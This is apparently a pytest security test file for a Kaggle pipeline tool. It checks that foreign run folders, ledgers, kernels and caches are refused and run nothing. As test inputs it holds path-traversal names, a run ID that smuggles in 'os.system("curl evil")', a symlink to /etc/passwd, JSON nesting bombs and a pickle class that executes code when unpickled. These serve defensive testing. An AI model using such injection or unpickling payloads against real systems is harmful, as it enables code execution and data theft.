"""Run folders, ledgers, kernels and caches from elsewhere are data: they are read or refused, and run nothing."""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kpipe.cli.main import main
from kpipe.data import cache
from kpipe.errors import DataError, InputError, SubmissionError, UsageError
from kpipe.kaggle import allowance, submit
from kpipe.kaggle.kernel import build as kernel
from kpipe.runs import find, ledger
from kpipe.runs.files import sha256_of
from kpipe.runs.run import Run
from kpipe.runs.store import RunFolder
from tests.hostile import CSVS, MANY, ODD_JSON, PLAIN, damaged
from tests.tables import problem_of, survivors


def kpipe(*args: str) -> int:
    with pytest.raises(SystemExit) as ended:
        main(list(args))
    return int(ended.value.code or 0)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run that kpipe made."""
    out = tmp_path_factory.mktemp("runs")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KPIPE_CACHE", str(out / "cache"))
        assert kpipe("run", "titanic", "--model", "linear", "--folds", "2", "--out", str(out / "out"), "--quiet") == 0
    (run,) = (out / "out" / "titanic").glob("2*")
    return run


@pytest.fixture
def foreign(made: Path, tmp_path: Path) -> Path:
    """The same run in a folder that somebody sent."""
    return shutil.copytree(made, tmp_path / "out" / "titanic" / "theirs")


def changed(folder: Path, **fields: Any) -> Path:
    path = folder / "run.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **fields}))
    return folder


@pytest.fixture
def at_work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder to work in, two levels deep; ends by seeing that nothing was written above it."""
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    monkeypatch.setenv("KAGGLE_USERNAME", "ada")
    monkeypatch.setenv("KAGGLE_KEY", "0" * 32)
    monkeypatch.setenv("KPIPE_KAGGLE_ENDPOINT", "http://127.0.0.1:9")  # nobody listens there
    before = {path for path in tmp_path.rglob("*") if work not in path.parents}
    yield work
    assert {path for path in tmp_path.rglob("*") if work not in path.parents} == before


SLUGS = [
    "../../x",
    "/etc/x",
    "..",
    "",
    "a/b",
    "a\\b",
    "titanic\n",
    "TITANIC",
    "x" * 5000 + "/",
    "\x1b[31m",
    "%2e%2e",
    ".",
]


@pytest.mark.parametrize("slug", SLUGS)
def test_no_slug_leads_out_of_its_folder(
    slug: str, foreign: Path, at_work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changed(foreign, slug=slug)
    calls = [
        *(("run", slug), ("show", slug), ("submissions", slug, "--out", "out")),
        *(("submit", str(foreign), "--yes"), ("kernel", "build", str(foreign), "--user", "ada")),
    ]
    for call in calls:
        assert kpipe(*call) == 2, call
        told = capsys.readouterr().err
        assert "Error: " in told
        assert "\x1b" not in told
    with pytest.raises(UsageError, match="cannot be a competition"):
        ledger.read_ledger(at_work, slug)


def test_a_run_id_is_no_code_in_a_kernel(foreign: Path, at_work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It stands in the docstring of the kernel's script: it must not be able to end that."""
    changed(foreign, run_id='x"""\nimport os; os.system("curl evil")\n"""')
    assert kpipe("kernel", "build", str(foreign), "--user", "ada") == 2
    assert "its run_id" in capsys.readouterr().err
    assert list(at_work.iterdir()) == []


@pytest.mark.parametrize("name", ["..", ".", "*", "**", "", "theirs/..", "[", "\0", "a" * 5000, "../titanic/theirs"])
def test_no_name_of_a_run_leads_out_of_its_folder_or_stands_for_many(name: str, foreign: Path) -> None:
    with pytest.raises(UsageError, match="There is no run"):
        find.find_run(name, foreign.parents[1])


DEEP = 100_000
NO_RECORDS = {
    "nothing": b"",
    "no text": b"\xff\xfe",
    "no JSON": b"{",
    "a list": b"[]",
    "a number": b"NaN",
    "a list in a list in a list": b"[" * DEEP + b"]" * DEEP,
    "an object in an object": b'{"slug":' * DEEP,
    "a number of many digits": b'{"slug": ' + b"9" * 10_000 + b"}",
    "half a letter": b'{"slug": "titanic", "run_id": "x", "\\ud800": 1}',
}


@pytest.mark.parametrize("case", NO_RECORDS)
def test_what_is_no_record_is_refused_in_words(case: str, foreign: Path) -> None:
    (foreign / "run.json").write_bytes(NO_RECORDS[case])
    with pytest.raises(DataError, match=r"run\.json is not the record of a run: ") as said:
        find.find_run(str(foreign), foreign.parents[1])
    assert len(str(said.value)) < 1_000


def test_a_record_of_many_bytes_is_not_read(foreign: Path) -> None:
    with open(foreign / "run.json", "r+b") as file:
        file.truncate(1 << 33)  # of which the disk holds nothing
    with pytest.raises(DataError, match=r"it has more than 16,777,216 bytes"):
        find.find_run(str(foreign), foreign.parents[1])


ODD = st.sampled_from([*ODD_JSON, "\x1b[31m", "\ud800"])


def spoil(value: Any, draw: Any) -> Any:
    """The same with something missing, or something else in its place, at any depth."""
    if isinstance(value, dict) and draw(st.integers(0, 9)):
        return {key: spoil(inner, draw) if draw(st.integers(0, 9)) < 2 else inner for key, inner in value.items()}
    if isinstance(value, list) and draw(st.booleans()):
        return [spoil(inner, draw) for inner in value]
    return draw(ODD)


def use(run: Run) -> None:
    """Everything that is done with a run that was read again."""
    with contextlib.suppress(SubmissionError):
        allowance._check_run(run, run.record["submission"]["sha256"], force=False)
    submit._entry_of_run(run)
    assert isinstance(run.score + run.standard_error, float)
    request = kernel.request_of_run(run)
    compile(kernel._script(request, b"", made_from=run.record["run_id"], wheels=""), "script.py", "exec")


def any_record_is_used_or_refused(data: st.DataObject, folder: Path) -> None:
    good = json.loads((folder / "run.json").read_text())
    try:
        (folder / "run.json").write_text(json.dumps(spoil(good, data.draw)))
        with contextlib.suppress(InputError):
            use(find.find_run(str(folder), folder.parents[1]))
        find.run_of_file(folder / "submission.csv")
    finally:
        (folder / "run.json").write_text(json.dumps(good))


@PLAIN
@given(data=st.data())
def test_any_record_is_used_or_refused(data: st.DataObject, foreign: Path) -> None:
    any_record_is_used_or_refused(data, foreign)


@pytest.mark.slow
@MANY
@given(data=st.data())
def test_any_of_many_records_is_used_or_refused(data: st.DataObject, foreign: Path) -> None:
    any_record_is_used_or_refused(data, foreign)


def test_a_run_that_kpipe_made_is_used_wherever_it_lies(foreign: Path) -> None:
    use(find.find_run("theirs", foreign.parents[1]))


@pytest.mark.parametrize("how", ["swapped", "a link to another file"])
def test_a_submission_that_the_record_does_not_know_is_not_sent_as_the_runs(
    how: str, foreign: Path, at_work: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    secret = tmp_path_factory.mktemp("secret") / "secret.csv"
    secret.write_text("PassengerId,Survived\n1,1\n")
    (foreign / "submission.csv").unlink()
    if how == "swapped":
        shutil.copy(secret, foreign / "submission.csv")
    else:
        (foreign / "submission.csv").symlink_to(secret)
    sendable = json.loads((foreign / "run.json").read_text())["submission"] | {"sendable": True}
    run = find.find_run(str(changed(foreign, submission=sendable)), foreign.parents[1])
    with pytest.raises(SubmissionError, match=r"was changed after the run wrote it"):
        allowance._check_run(run, sha256_of(foreign / "submission.csv"), force=True)
    assert find.run_of_file(foreign / "submission.csv") is None


@pytest.fixture
def built(foreign: Path, at_work: Path) -> Path:
    """A kernel's folder, for which there are wheels."""
    assert kpipe("kernel", "build", str(foreign), "--user", "ada") == 0
    (at_work / "kernels" / "titanic" / "wheels").mkdir()
    return at_work / "kernels" / "titanic"


def test_a_link_in_a_kernels_folder_is_not_sent(built: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (built / "script.py").unlink()
    (built / "script.py").symlink_to("/etc/passwd")
    assert kpipe("kernel", "push", str(built)) == 2
    assert "code_file 'script.py' is a link" in capsys.readouterr().err


@pytest.mark.parametrize("described", ["", "[]", "5", "{}", "[" * 100_000])
def test_a_dataset_of_wheels_that_is_not_described_is_refused(
    described: str, built: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (built / "wheels" / "dataset-metadata.json").write_text(described)
    assert kpipe("kernel", "push", str(built)) == 2
    assert "dataset-metadata.json does not describe a dataset" in capsys.readouterr().err


# --- the ledger, a CSV to submit, the cache

ENTRY = {"ref": 1, "slug": "x", "date": "2026-01-01T00:00:00+00:00", "message": "m", "file": "f", "public_score": 0.5}


@PLAIN
@given(data=st.data())
def test_any_ledger_is_read_or_refused(data: st.DataObject, tmp_path: Path) -> None:
    (tmp_path / "x").mkdir(exist_ok=True)
    path = tmp_path / "x" / "ledger.json"
    path.write_text(json.dumps(spoil([ENTRY, {**ENTRY, "ref": 2}], data.draw)))
    with contextlib.suppress(DataError):
        ledger.add_entries(tmp_path, "x", [ledger.Entry(**{**ENTRY, "ref": 3})])  # type: ignore[arg-type]
        assert ledger.read_ledger(tmp_path, "x")


@PLAIN
@given(content=CSVS)
def test_any_csv_that_no_run_wrote_is_validated_or_refused(content: bytes, tmp_path: Path) -> None:
    problem = problem_of(survivors(m=3))
    (tmp_path / "theirs.csv").write_bytes(content)
    with pytest.raises(SubmissionError):
        submit.validate_file(tmp_path / "theirs.csv", problem)


def test_a_cache_of_somebody_else_runs_nothing(tmp_path: Path) -> None:
    """Objects that unpickling would run, in place of the pixels, with every checksum right."""

    frame = pd.DataFrame({f"p{n}": np.zeros(2, np.uint8) for n in range(3)})
    block = io.BytesIO()
    np.save(block, np.array([[Evil(tmp_path / "run")] * 3] * 2, dtype=object), allow_pickle=True)
    with pytest.MonkeyPatch.context() as patch:
        whole = cache._contents
        patch.setattr(cache, "_contents", lambda f: ((n, block.getvalue() if n[-1] == "y" else c) for n, c in whole(f)))
        cache.put(tmp_path / "cache", "key", {"train": frame}, {})
    assert cache.get(tmp_path / "cache", "key") is None
    assert not (tmp_path / "run").exists()


class Evil:
    """What makes a folder when it is unpickled."""

    def __init__(self, folder: Path) -> None:
        self.folder = str(folder)

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.mkdir, (self.folder,)


def test_a_finished_part_of_somebody_else_runs_nothing(tmp_path: Path) -> None:
    space = RunFolder(tmp_path)
    space.put("k", {"valid": np.array([Evil(tmp_path / "run")], dtype=object)})
    assert space.get("k", {"valid": (1,)}) is None
    assert not (tmp_path / "run").exists()


@PLAIN
@given(data=st.data())
def test_any_spoilt_part_is_done_again_or_is_what_it_was(data: st.DataObject, tmp_path: Path) -> None:
    space, values = RunFolder(tmp_path), np.arange(12.0).reshape(6, 2)
    space.put("k", {"valid": values})
    path = tmp_path / "checkpoints" / "k.npz"
    path.write_bytes(damaged(data, path.read_bytes()))
    found = space.get("k", {"valid": (6, 2)})
    assert found is None or np.array_equal(found["valid"], values)


@pytest.fixture
def two(made: Path, tmp_path: Path) -> Path:
    """A folder of two runs."""
    for run_id in ("20261121T140059Z-6b7004", "20261121T140103Z-a13660"):
        changed(shutil.copytree(made, tmp_path / "out" / "titanic" / run_id), run_id=run_id)
    return tmp_path / "out"


@pytest.mark.parametrize("part", [slice(None), slice(0, 14), slice(-6, None), slice(-4, None)])
def test_a_run_is_found_by_so_much_of_its_id_as_it_alone_has(two: Path, part: slice) -> None:
    run = find.find_run("20261121T140059Z-6b7004"[part], two)
    assert run.path.name == run.record["run_id"] == "20261121T140059Z-6b7004"


def test_a_part_of_an_id_that_several_runs_have_names_them(two: Path) -> None:
    with pytest.raises(UsageError, match=r"'20261121' matches 2 runs: give more of the id, .*6b7004, .*a13660"):
        find.find_run("20261121", two)


@pytest.mark.parametrize("name", ["004", "1T140059Z", "6b7004-", "6B7004"])
def test_a_run_is_not_found_by_its_middle_or_by_little(two: Path, name: str) -> None:
    with pytest.raises(UsageError, match="There is no run"):
        find.find_run(name, two)
